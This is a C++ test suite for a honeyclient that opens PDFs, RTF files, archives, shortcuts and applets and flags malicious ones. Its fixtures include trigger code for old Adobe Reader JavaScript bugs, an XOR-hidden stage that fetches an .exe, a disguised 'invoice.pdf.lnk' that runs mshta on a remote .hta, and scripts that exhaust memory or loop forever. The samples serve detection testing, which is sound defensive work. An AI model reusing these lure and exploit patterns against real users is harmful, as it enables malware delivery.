// Documents that a visit comes upon: taken apart, weighed, followed.
#include <algorithm>

#include <boost/json.hpp>

#include "honeyclient/low/visit_test.h"
#include "triage/documents/builders.h"

namespace shikake::honeyclient::low {
namespace {

using namespace triage::builders;
using namespace std::string_literals;

std::string answer(const std::string& type, const std::string& bytes) {
  return "HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\n\r\n" + bytes;
}
std::string pdf_script(const std::string& source) {
  return pdf({"<< /Type /Catalog /OpenAction << /S /JavaScript /JS <" + hex(source) + "> >> >>"});
}
std::string format_of(const intel::VisitFile& file) {
  const auto* document = file.facts.if_contains("document");
  return document ? std::string(document->at("format").as_string()) : "";
}

TEST(DocumentVisit, AVulnerableCallConvictsTheDocumentAndLeadsBackToTheLandingPage) {
  Sites sites({{"/", "<iframe src={b}/x></iframe>"},
               {"/x", "<embed src=/a.pdf>"},
               {"/a.pdf", answer("application/pdf", pdf_script("media.newPlayer(null)"))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  ASSERT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(format_of(visit.files[0]), "PDF 1.7");
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
  const intel::VisitNode& document = visit.nodes[visit.files[0].node];
  EXPECT_EQ(sites.named(document.url), "{b}/a.pdf");
  EXPECT_EQ(document.role, intel::Role::exploit);
  EXPECT_EQ(document.cves, std::vector<std::string>{"CVE-2009-4324"});
  EXPECT_EQ(visit.nodes[0].role, intel::Role::landing);
}

// A document's scripts run: what they unpack, and where that leads, with its place.
TEST(DocumentVisit, ScriptsThatUnpackThemselvesAreRunAsInAViewer) {
  const std::string second = "if (app.viewerVersion >= 7) this['getU' + 'RL']('{b}/s.exe');";
  std::string hidden;
  for (char c : second) hidden += hex(std::string(1, static_cast<char>(c ^ 0x15)));
  Sites sites({{"/", "<embed src=/a.pdf>"}, {"/s.exe", answer("application/octet-stream", "MZ nothing")}});
  std::string source =
      "var s = this.getAnnots({nPage: 0})[0].subject, t = ''; for (var i = 0; i < s.length; i += 2) "
      "t += String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ 0x15);\n event.target.eval(t);";
  std::string filled;  // the address is known when the servers are
  for (char c : sites.filled(second)) filled += hex(std::string(1, static_cast<char>(c ^ 0x15)));
  VisitOptions options = local_visit("http://page.example/a.pdf");
  options.content_type = "application/pdf";
  options.content =
      pdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS <" + hex(source) + "> >> >>",
           "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
           "<< /Type /Page /Parent 2 0 R /Annots [<< /Subj 4 0 R >>] >>", pdf_stream("", filled)});
  KeptBlobs blobs;
  const intel::VisitRecord visit = visit_or_fail(options, blobs);
  EXPECT_EQ(edge_texts(sites, visit),
            std::multiset<std::string>{"component http://page.example/a.pdf -> {b}/s.exe 1:34 < 2:15"});
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_TRUE(visit.nodes[1].fetched);
  EXPECT_TRUE(blobs.kept.contains(base::sha256(source).hex()));
  EXPECT_TRUE(blobs.kept.contains(base::sha256(sites.filled(second)).hex()));
  EXPECT_EQ(events_of(visit, "error"), std::vector<std::string>());
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
}

struct ScriptRow {
  const char* name;
  std::string source;
  std::vector<std::string> cves = {};
  std::vector<std::string> dialogs = {};  // without those that are told once more to other versions
  std::string asked = {};                 // an address that it reaches; {b} filled in
};
const ScriptRow script_rows[] = {
    {"version_decides",
     "var big = Array(5000).join('A'), c = Collab, v = app.viewerVersion; if (v < 8) c['collect' + "
     "'EmailInfo']({subj: '', "
     "msg: big}); else if (v < 9) util['prin' + 'tf']('%4' + '5000f', 1); else c['get' + 'Icon'](big + "
     "'_N.bundle');",
     {"CVE-2007-5659", "CVE-2008-2992", "CVE-2009-0927"}},
    {"player", "var m = 'new'; m += 'Player'; try { this.media[m](null); } catch (e) {}", {"CVE-2009-4324"}},
    {"dictionary", "spell['custom' + 'DictionaryOpen'](0, Array(5000).join('A'))", {"CVE-2009-1493"}},
    {"annotations", "this['get' + 'Annots'](-1023142899, -1, 1, 0)", {"CVE-2009-1492"}},
    {"innocent_calls",
     "util.printf('%10.2f|%s', 1.5, 'a'); this.getAnnots({nPage: -1}); Collab.getIcon({cName: 'a'}); "
     "app.setTimeOut('1', 10); AFNumber_Format(2, 0, 0, 0, '', true); this.getField('no') === null || "
     "app.alert('field')"},
    {"formats",
     "app.alert(util.printf('%,2.1f|%x|%5d|%-4s|%%', 1234.56, 255, 42, 'ab')); "
     "app.alert({cMsg: util.printd('yyyy-mm-dd HH:MM:ss', new Date(86400000)) + util.byteToChar(65)});",
     {},
     {"alert: 1234.6|ff|   42|ab  |%", "alert: 1970-01-02 00:00:00A"}},
    {"properties",
     "app.alert(this.info.Title + this.info.title + this.title + event.target.author + this.numPages + "
     "app.doc.producer);",
     {},
     {"alert: TTTA1"}},
    {"fields",
     "var f = this.getField('top.x'); f.value += '!'; app.alert(this.getField('top.x').value + "
     "this.numFields);"
     "f.setAction('Calculate', 'app.alert(2)');",
     {},
     {"alert: v!1", "alert: 2"}},
    {"no_browser",
     "app.alert(typeof document + typeof navigator + typeof setTimeout + typeof alert)",
     {},
     {"alert: undefinedundefinedundefinedundefined"}},
    {"timer", "app.setTimeOut(\"app.launchURL('{b}/timer')\", 1000)", {}, {}, "{b}/timer"},
    {"named_arguments", "app.launchURL({cURL: '{b}/named', bNewFrame: true})", {}, {}, "{b}/named"},
    {"form", "this.submitForm('{b}/form')", {}, {}, "{b}/form"},
    {"request", "SOAP.request({cURL: '{b}/soap', oRequest: {}})", {}, {}, "{b}/soap"},
    {"request_by_form", "xfa.host.gotoURL('{b}/xfa')", {}, {}, "{b}/xfa"},
    {"added_script",
     "this.addScript('n', \"app.eval('app.openDoc(\\\\'{b}/added\\\\')')\")",
     {},
     {},
     "{b}/added"},
};

class DocumentScripts : public ::testing::TestWithParam<ScriptRow> {};
INSTANTIATE_TEST_SUITE_P(All, DocumentScripts, ::testing::ValuesIn(script_rows),
                         [](const auto& row) { return std::string(row.param.name); });

TEST_P(DocumentScripts, Do) {
  Sites sites({});
  VisitOptions options = local_visit("http://page.example/a.pdf");
  options.offline = true;
  options.persona = "ie9-win7";
  options.content_type = "application/pdf";
  options.content = pdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS <" +
                             hex(sites.filled(GetParam().source)) + "> >> /AcroForm << /Fields [4 0 R] >> >>",
                         "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R >>",
                         "<< /FT /Tx /T (top.x) /V (v) >>", "<< /Title (T) /Author (A) >>"});
  const std::string trailer = "/Root 1 0 R";
  options.content->replace(options.content->find(trailer), trailer.size(), trailer + " /Info 5 0 R");
  const intel::VisitRecord visit = visit_or_fail(options);
  std::vector<std::string> cves = visit.nodes[0].cves;
  std::ranges::sort(cves);
  EXPECT_EQ(cves, GetParam().cves);
  // What goes elsewhere by a text that was made into a script is suspicious, as in pages.
  EXPECT_EQ(visit.verdict == intel::VisitVerdict::malicious, !cves.empty())
      << ::testing::PrintToString(visit.reasons);
  EXPECT_EQ(events_of(visit, "dialog"), GetParam().dialogs);
  EXPECT_EQ(events_of(visit, "error"), std::vector<std::string>());
  EXPECT_EQ(visit.nodes.size(), GetParam().asked.empty() ? 1u : 2u);
  if (!GetParam().asked.empty()) {
    EXPECT_EQ(sites.named(visit.nodes.back().url), GetParam().asked);
  }
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
}

TEST(DocumentVisit, ScriptsAreForcedToo) {
  VisitOptions options = local_visit("http://page.example/a.pdf");
  options.offline = true;
  options.forced = true;
  options.content_type = "application/pdf";
  options.content = pdf_script("if (app.viewerVersion > 90) app.launchURL('http://hidden.example/')");
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.edges.size(), 1u);
  EXPECT_TRUE(visit.edges[0].forced);
  EXPECT_EQ(visit.nodes[visit.edges[0].to].url, "http://hidden.example/");
  EXPECT_NE(visit.edges[0].decided_by.find("viewerVersion"), std::string::npos) << visit.edges[0].decided_by;
}

TEST(DocumentVisit, FormScriptsSeeTheirForms) {
  VisitOptions options = local_visit("http://page.example/a.pdf");
  options.offline = true;
  options.content_type = "application/pdf";
  options.content = pdf(
      {"<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>",
       pdf_stream(
           "",
           "<template><field name=\"Image1\"><value><text>http://files.example/x</text></value></field>"
           "<script contentType=\"application/x-javascript\">if (1 &lt; 2) app.launchURL(Image1.rawValue); "
           "xfa.resolveNode('a.Image1[0]').rawValue = 'y'; app.alert(Image1.rawValue)</script></template>")});
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_EQ(visit.nodes[1].url, "http://files.example/x");
  EXPECT_EQ(events_of(visit, "dialog"), std::vector<std::string>{"alert: y"});
}

struct HostileScript {
  const char* name;
  std::string source;
  const char* limit;  // "": none
};
TEST(DocumentVisit, HostileScriptsEndAndCostTheirDocumentAlone) {
  const HostileScript rows[] = {
      {"loops", "for (;;) {}", "script-time"},
      {"takes_memory", "var a = []; for (;;) a.push(new ArrayBuffer(1 << 24));", "memory"},
      {"pollutes",
       "Object.prototype.get = Array.prototype.push = null; Object.defineProperty(Object.prototype, 'cName', "
       "{get: function() { throw 1 }}); this.getField({}); app.setTimeOut({});",
       ""},
      {"gives_what_it_should_not",
       "var x = {toString: function() { throw 1 }}; for (var f of [app.alert, app.eval, app.setTimeOut, "
       "util.printf, util.printd, "
       "this.getField, this.getAnnots, this.addScript, this.getAnnot, this.getNthFieldName, util.scand, "
       "util.byteToChar, "
       "xfa.resolveNode]) for (var o of [x, null, undefined, NaN, -1, 1e300, [], {}, [x], f, app, Symbol()]) "
       "try { f(o, o, o); f(o); f.call(o, 1); f() } catch (e) {}",
       ""},
      {"formats_of_size",
       "for (var i = 0; i < 50; ++i) { util.printf('%99999999999999999d%.99999999999f', 1, 2); "
       "util.printd(Array(1000).join('mmmm'), new Date(NaN)); util.printd('mmmm dddd yyyy', new "
       "Date(-8.64e15)); }",
       ""},
      {"adds_scripts_for_ever",
       "this.addScript('a', 'this.addScript(\"b\", \"1\")'); var n = 0; function f() { if (++n < 1e6) "
       "app.setTimeOut('f()', 0) } f();",
       "timers"},
  };
  for (const HostileScript& row : rows) {
    SCOPED_TRACE(row.name);
    VisitOptions options = local_visit("http://page.example/a.pdf");
    options.offline = true;
    options.content_type = "application/pdf";
    options.content = pdf_script("app.launchURL('http://seen.example/'); " + row.source);
    options.max_script_time = std::chrono::milliseconds(row.limit == std::string("memory") ? 60'000 : 1000);
    const intel::VisitRecord visit = visit_or_fail(options);
    EXPECT_EQ(visit.nodes.size(), 2u);
    const bool named = std::ranges::find(visit.limits_hit, row.limit) != visit.limits_hit.end();
    EXPECT_TRUE(*row.limit ? named : visit.limits_hit.empty()) << ::testing::PrintToString(visit.limits_hit);
  }
}

TEST(DocumentVisit, AnInnocentDocumentConvictsNobody) {
  Sites sites({{"/", "<embed src={b}/a.pdf>"},
               {"/a.pdf", answer("application/pdf", pdf_script("util.printf('%.2f', 1)"))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  EXPECT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
}

TEST(DocumentVisit, WhatOpensWithoutAClickIsFollowed) {
  Sites sites({{"/", answer("application/rtf", "{\\rtf1{\\*\\template {b}/next.dot}}")},
               {"/next.dot", answer("application/rtf", "{\\rtf1 nothing}")}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  EXPECT_EQ(edge_texts(sites, visit), std::multiset<std::string>{"download {a}/ -> {b}/next.dot"});
  EXPECT_TRUE(visit.nodes[1].fetched);
  EXPECT_EQ(visit.files.size(), 2u);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
}

TEST(DocumentVisit, ArchivesAreOpenedAndTheirDocumentsToo) {
  const std::string lure =
      shortcut({.target = "C:\\Windows\\System32\\mshta.exe", .arguments = "http://files.example/a.hta"});
  KeptBlobs blobs;
  VisitOptions options = local_visit("http://files.example/invoice.zip");
  options.offline = true;
  options.content = zip({{"inner/invoice.zip", zip({{"invoice.pdf.lnk", lure}, {"readme.txt", "plain"}})}});
  options.content_type = "application/zip";
  const intel::VisitRecord visit = visit_or_fail(options, blobs);
  ASSERT_EQ(visit.files.size(), 3u);
  EXPECT_EQ(visit.files[2].inside, "inner/invoice.zip!invoice.pdf.lnk");
  EXPECT_EQ(format_of(visit.files[2]), "Windows shortcut");
  EXPECT_TRUE(blobs.kept.contains(base::sha256(lure).hex()));
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_EQ(visit.nodes[1].url, "http://files.example/a.hta");
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
}

TEST(DocumentVisit, AppletsAreNotedWithWhatTheyAreTold) {
  Sites sites(
      {{"/", "<applet code=A archive=a.jar><param name=to value='{b}/s.exe'></applet>"},
       {"/a.jar", answer("application/java-archive",
                         zip({{"META-INF/MANIFEST.MF", "Main-Class: A\n"},
                              {"A.class", java_class("A", "java/applet/Applet", {"openStream"})}}))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  ASSERT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(format_of(visit.files[0]), "Java archive");
  const std::vector<std::string> told = events_of(visit, "component");
  ASSERT_EQ(told.size(), 1u);
  EXPECT_EQ(sites.named(told[0]), "applet code=A archive=a.jar to={b}/s.exe");
}

TEST(DocumentVisit, TheRecordSurvivesItsJson) {
  VisitOptions options = local_visit("http://files.example/a.lnk");
  options.offline = true;
  options.content = shortcut({.target = "C:\\a.exe", .arguments = "b"});
  options.content_type = "application/x-ms-shortcut";
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.files.size(), 1u);
  const boost::json::object record = intel::to_json(visit);
  auto again = intel::visit_from_json(record);
  ASSERT_TRUE(again) << again.error().message();
  EXPECT_EQ(intel::to_json(*again), record);
}

}  // namespace
}  // namespace shikake::honeyclient::low
